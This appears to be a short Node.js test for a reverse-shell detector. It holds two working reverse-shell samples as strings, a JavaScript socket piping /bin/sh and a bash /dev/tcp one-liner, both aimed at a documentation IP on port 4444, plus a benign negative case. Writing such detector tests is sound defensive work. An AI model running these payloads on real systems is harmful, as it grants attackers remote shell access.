const assert = require("assert"); const { detect } = require(".");
// samples are strings only
const js = `const c=new net.Socket();c.connect(4444,"203.0.113.3",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c);});`;
const sh = "bash -i >& /dev/tcp/203.0.113.3/4444 0>&1";
assert(detect(js, "js").length); assert(detect(sh, "sh").length); assert(!detect("net.createServer(()=>{})", "js").length);
console.log("ok");
